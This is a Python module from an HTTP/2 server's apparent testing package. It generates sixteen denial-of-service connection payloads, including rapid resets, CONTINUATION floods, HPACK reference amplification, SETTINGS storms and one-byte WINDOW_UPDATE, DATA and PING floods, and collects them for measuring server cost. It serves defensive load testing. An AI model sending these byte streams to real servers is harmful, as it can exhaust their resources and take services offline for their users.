"""Hostile input for an HTTP/2 server, as bytes: what one client says after it connected.

Each attack is a pure function without arguments that returns the bytes of one connection, preface included. They cost
the sender little and once cost the server much. ``ATTACKS`` names them all, for whoever measures what a byte costs.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Final

from dmq.http2.codec import frames
from dmq.http2.errors import Code
from dmq.http2.testing.peer import REQUEST, Encoder, integer

_GREETING: Final = frames.PREFACE + frames.settings({})
_STREAMS: Final = 2040  # of the 2,048 that a server takes by default
_BULK: Final = 1_000_000  # bytes of a flood


def opened(streams: int, path: str = "/t.T/Wait") -> bytes:
    """Return a greeting and so many requests that do not end."""
    encoder = Encoder()
    fields = [(key, path if key == ":path" else value) for key, value in REQUEST]
    blocks = (frames.header_block(2 * n + 1, encoder.encode(fields), ends=False) for n in range(streams))
    return _GREETING + b"".join(blocks)


def window_changes(count: int) -> bytes:
    """Return a SETTINGS frame that changes the initial window so many times."""
    pairs = b"".join(frames.SETTING.pack(frames.INITIAL_WINDOW_SIZE, 60_000 + n % 2) for n in range(count))
    return frames.frame(frames.SETTINGS, 0, 0, pairs)


def settings_over_streams() -> bytes:
    """Return SETTINGS frames of 2,730 window changes each, over 2,040 open streams."""
    return opened(_STREAMS) + window_changes(2730) * 40


def header_references() -> bytes:
    """Return blocks of one-byte references to a long value of the table: 8,000 fields of 3.9 KB each."""
    value = b"v" * 3900
    first = Encoder().encode(REQUEST, is_kept=False) + b"\x40\x01x" + integer(len(value), 7, 0) + value
    made = [_GREETING, frames.header_block(1, first, ends=True)]
    made += [frames.header_block(2 * n + 3, b"\xbe" * 16_000, ends=True) for n in range(_BULK // 16_000)]
    return b"".join(made)


def header_lists() -> bytes:
    """Return 2,040 open requests, each with 56 KB of headers."""
    bare = Encoder().encode(REQUEST, is_kept=False)
    fat = bare + b"\0\x01x" + integer(56_000, 7, 0) + b"v" * 56_000
    return _GREETING + b"".join(frames.header_block(2 * n + 1, fat, ends=False) for n in range(_STREAMS))


def huffman_names() -> bytes:
    """Return blocks of names that nobody has seen before, in Huffman code."""
    bare = Encoder().encode(REQUEST, is_kept=False)
    made = [_GREETING]
    for n in range(_BULK // 16_000):
        names = (b"\0\xbe" + b"\x1f" * 58 + bytes((0x18 + n // 8 % 6, number // 8 % 6 + 0x18, 0x1f, 0x1f)) + b"\0"
                 for number in range(250))  # fmt: skip
        made.append(frames.header_block(2 * n + 1, bare + b"".join(names), ends=True))
    return b"".join(made)


def endless_header_block() -> bytes:
    """Return a header block of 250 KB that does not end."""
    pieces = b"".join(frames.frame(frames.CONTINUATION, 0, 1, b"\0" * 16_000) for _ in range(15))
    return _GREETING + frames.frame(frames.HEADERS, 0, 1, b"\0" * 16_000) + pieces


def empty_continuations() -> bytes:
    """Return a header block in frames without a byte."""
    return _GREETING + frames.frame(frames.HEADERS, 0, 1) + frames.frame(frames.CONTINUATION, 0, 1) * 100_000


def window_updates() -> bytes:
    """Return WINDOW_UPDATEs of one byte for the connection and for a stream."""
    pair = frames.window_update(0, 1) + frames.window_update(1, 1)
    return opened(1) + pair * (_BULK // len(pair))


def trickled_windows() -> bytes:
    """Return WINDOW_UPDATEs of one byte while 500 streams wait for the window of the connection."""
    calls = b"".join(
        frames.header_block(2 * n + 1, Encoder().encode(_ECHO, is_kept=False), ends=False)
        + frames.frame(frames.DATA, frames.END_STREAM, 2 * n + 1, b"\0\0\0\x03\xe8" + bytes(1000))
        for n in range(500)
    )
    update = frames.window_update(0, 1)
    return _GREETING + calls + update * (_BULK // len(update))


def one_byte_data() -> bytes:
    """Return DATA of one byte each."""
    piece = frames.frame(frames.DATA, 0, 1, b"\0")
    return opened(1) + piece * (_BULK // len(piece))


def padded_data() -> bytes:
    """Return DATA of one byte in much padding."""
    piece = frames.frame(frames.DATA, frames.PADDED, 1, b"\xff\0" + bytes(255))
    return opened(1) + piece * (_BULK // len(piece))


def data_after_reset() -> bytes:
    """Return DATA of one byte for a stream that the server has ended."""
    fields = [(key, "/no/such" if key == ":path" else value) for key, value in REQUEST]
    block = frames.header_block(1, Encoder().encode(fields), ends=False)
    piece = frames.frame(frames.DATA, 0, 1, b"\0")
    return _GREETING + block + piece * (_BULK // len(piece))


def pings() -> bytes:
    """Return PINGs."""
    piece = frames.ping(b"12345678")
    return _GREETING + piece * (_BULK // len(piece))


def priorities() -> bytes:
    """Return PRIORITY frames."""
    piece = frames.frame(frames.PRIORITY, 0, 1, bytes(5))
    return _GREETING + piece * (_BULK // len(piece))


def unknown_frames() -> bytes:
    """Return frames of a type that nobody knows."""
    return _GREETING + frames.frame(200, 0, 0) * (_BULK // 9)


def rapid_resets() -> bytes:
    """Return requests that are reset at once."""
    encoder = Encoder()
    fields = [(key, "/t.T/Wait" if key == ":path" else value) for key, value in REQUEST]
    calls = (
        frames.header_block(2 * n + 1, encoder.encode(fields), ends=False) + frames.rst_stream(2 * n + 1, _CANCEL)
        for n in range(20_000)
    )
    return _GREETING + b"".join(calls)


def many_small_calls() -> bytes:
    """Return 20,000 calls of an unknown method: all of them legal, and each wants an answer."""
    encoder = Encoder()
    fields = [(key, "/no/such" if key == ":path" else value) for key, value in REQUEST]
    calls = (frames.header_block(2 * n + 1, encoder.encode(fields), ends=True) for n in range(20_000))
    return _GREETING + b"".join(calls)


_CANCEL: Final = Code.CANCEL
_ECHO: Final = [(key, "/t.T/Echo" if key == ":path" else value) for key, value in REQUEST]

ATTACKS: Final[tuple[Callable[[], bytes], ...]] = (
    settings_over_streams,
    header_references,
    header_lists,
    huffman_names,
    endless_header_block,
    empty_continuations,
    window_updates,
    trickled_windows,
    one_byte_data,
    padded_data,
    data_after_reset,
    pings,
    priorities,
    unknown_frames,
    rapid_resets,
    many_small_calls,
)
